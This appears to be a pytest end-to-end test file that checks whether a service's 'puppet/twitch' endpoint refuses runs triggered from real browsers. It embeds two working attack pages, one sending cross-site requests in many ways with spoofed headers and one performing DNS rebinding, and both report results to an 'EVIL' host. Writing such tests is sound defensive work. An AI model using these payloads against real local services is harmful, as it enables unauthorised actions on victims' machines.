"""A web page cannot start a run from a browser, whatever it tries.

The browsers are real Chromium and Firefox at another machine's address, because browsers trust loopback more.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path
from typing import Callable
from urllib.parse import unquote

import pytest

from tests.e2e import access, stub
from tests.e2e.browser import Site, chromium, firefox
from tests.lab.lab import Lab
from tests.lab.machine import Machine
from tests.lab.network import Netns

EVIL, EVIL6, VICTIM = "10.77.0.60", "fd77::60", "10.77.0.61"
PORT = 8000
# For the start of a browser, and for a page that gives each of nine elements up to 2 s.
BROWSER_S = 240

Browser = Callable[..., AbstractContextManager[None]]


@pytest.fixture(params=[chromium, firefox])
def browser(request: pytest.FixtureRequest) -> Browser:
    opened: Browser = request.param
    return opened


@pytest.fixture(scope="session")
def evil(lab: Lab) -> Netns:
    return lab.client(EVIL, EVIL6)


@pytest.fixture(scope="session")
def victim(lab: Lab) -> Netns:
    netns = lab.client(VICTIM, "fd77::61")
    # Browsers use IPv6 only if there is a default route.
    netns.run("ip", "-6", "route", "add", "default", "via", "fd77::1")
    return netns


@contextmanager
def site_of(evil: Netns, address: str, port: int, page: str = "") -> Iterator[Site]:
    site = Site(evil, address, port)
    site.page = page.replace("EVIL", f"http://{EVIL}:{PORT}")
    try:
        yield site
    finally:
        site.close()


# The ways in which a page makes its browser send a request, one after the other; the navigation is the last.
# Chromium 156 sends 18 GET and POST for the path of the trigger; Firefox 153 sends OPTIONS in place of one.
REQUESTS = 17
EVERY_WAY = """\
<!doctype html><meta name="referrer" content="REFERRER"><body><script>
const url = 'URL', headers = {'Accept-Language': '*'};
const report = text => fetch('EVIL/report/' + encodeURIComponent(text), {mode: 'no-cors'});
const attempt = async (options) => { try { await fetch(url, {mode: 'no-cors', ...options}); } catch {} };
const element = (name, attributes) => new Promise(done => {
  const one = Object.assign(document.createElement(name), {onload: done, onerror: done});
  for (const [key, value] of Object.entries(attributes)) one.setAttribute(key, value);
  document.body.append(one);
  setTimeout(done, 2000);  // not every element has an event when its request has failed
});
const form = method => {
  const one = document.createElement('form');
  Object.assign(one, {action: url, method, target: 'frame'});
  document.body.append(one);
  one.submit();
};
(async () => {
  await attempt({});
  await attempt({headers});
  await attempt({method: 'POST', headers});
  await attempt({method: 'POST', body: 'async=true',
                 headers: {...headers, 'Content-Type': 'application/x-www-form-urlencoded'}});
  await attempt({mode: 'cors', headers: {...headers, 'User-Agent': 'Deno/2.1.4'}});
  for (const [name, attributes] of [
    ['img', {src: url}], ['script', {src: url}], ['link', {rel: 'stylesheet', href: url}],
    ['link', {rel: 'prefetch', href: url}], ['link', {rel: 'preload', as: 'fetch', href: url}],
    ['iframe', {src: url}], ['video', {src: url}], ['object', {data: url}], ['iframe', {name: 'frame'}],
  ]) await element(name, attributes);
  form('GET');
  form('POST');
  navigator.sendBeacon(url);
  try { new WebSocket(url.replace('http', 'ws')); } catch {}
  new EventSource(url);
  await new Promise(later => setTimeout(later, 1000));
  await report('done');
  location = url;
})();
</script>"""


def refused(node: Machine, cursor: str) -> int:
    """Return how many requests of the browser have been refused with 403, as far as they are logged.

    The listener logs them every ten seconds. To stop it for that would end connections of the browser, whose
    requests may still come.
    """
    messages = access.messages_since(node, cursor)
    lines = [message for message in messages if message.startswith(f"refused {VICTIM}:")]
    return sum(int(count) for line in lines for count in re.findall(r"(\d+) x 403", line))


@pytest.mark.parametrize("referrer", ["no-referrer", "unsafe-url"])
def test_web_page_starts_no_run(
    stub_node12: Machine, evil: Netns, victim: Netns, browser: Browser, referrer: str
) -> None:
    url = f"http://{stub_node12.address}:2023/puppet/twitch"
    page = EVERY_WAY.replace("URL", url).replace("REFERRER", referrer)
    before, cursor = access.handlers_started(stub_node12), access.journal_cursor(stub_node12)
    with site_of(evil, EVIL, PORT, page) as site, browser(victim, f"http://{EVIL}:{PORT}/"):
        assert site.reports.get(timeout=BROWSER_S) == "done"
        stub_node12.wait(lambda: refused(stub_node12, cursor) >= REQUESTS)
    assert access.handlers_started(stub_node12) == before
    assert stub.stub_log(stub_node12) == []
    # curl may, from the same address.
    assert access.remote(victim, url).status == 202


# After rebinding, the page's own site is the node: the page may set more headers, and read the answers.
ATTEMPTS = 13
REBOUND = """\
<!doctype html><script>
const report = text => fetch('EVIL/report/' + encodeURIComponent(text), {mode: 'no-cors'});
const curl = {'Accept-Language': '', 'User-Agent': 'curl/8'};
const deno = {'Accept-Language': '*', 'User-Agent': 'Deno/2.1.4'};
const attempts = [
  {}, {method: 'POST'}, {referrerPolicy: 'no-referrer'}, {method: 'POST', referrerPolicy: 'no-referrer'},
  {headers: curl}, {method: 'POST', headers: curl},
  {headers: curl, referrerPolicy: 'no-referrer'},
  {method: 'POST', headers: curl, referrerPolicy: 'no-referrer'},
  {headers: deno}, {headers: {...deno, 'Range': 'bytes=0-'}},
  {headers: {...deno, 'Accept-Encoding': 'gzip, br'}},
  {headers: {'Accept-Language': '*', 'User-Agent': 'node', 'Sec-Fetch-Mode': 'cors'}},
  {headers: {'User-Agent': 'Mozilla/5.0 (Windows NT 10.0) PowerShell/7.4.6'}},
];
(async () => {
  await report('loaded');
  for (;;) {  // until the name leads to the node
    try {
      if ((await (await fetch('/info', {cache: 'no-store'})).text()).startsWith('Puppet Twitch')) break;
    } catch {}
    await new Promise(later => setTimeout(later, 100));
  }
  const answers = [];
  for (const attempt of attempts) {
    const answer = await fetch('/puppet/twitch', attempt);
    answers.push(answer.status + ' ' + await answer.text());
  }
  await report('answers ' + answers.join('|'));
})();
</script>
"""


def test_dns_rebinding_starts_no_run(
    stub_node12: Machine, evil: Netns, victim: Netns, tmp_path: Path, browser: Browser
) -> None:
    # The name has two addresses: when the site stops at the first, the browser tries the second.
    hosts = tmp_path / "hosts"
    hosts.write_text(f"127.0.0.1 localhost\n{EVIL6} rebound.test\n{stub_node12.address} rebound.test\n")
    prefix = ("unshare", "--mount", "sh", "-c", f'mount --bind {hosts} /etc/hosts && exec "$@"', "sh")
    before = access.handlers_started(stub_node12)
    with (
        site_of(evil, EVIL, PORT) as reports,
        site_of(evil, EVIL6, 2023, REBOUND) as site,
        browser(victim, "http://rebound.test:2023/", prefix=prefix),
    ):
        assert reports.reports.get(timeout=BROWSER_S) == "loaded"
        site.close()
        answers = unquote(reports.reports.get(timeout=BROWSER_S))
    assert answers == "answers " + "|".join(["403 Not from a browser; use curl\n"] * ATTEMPTS)
    assert access.handlers_started(stub_node12) == before
    assert stub.stub_log(stub_node12) == []
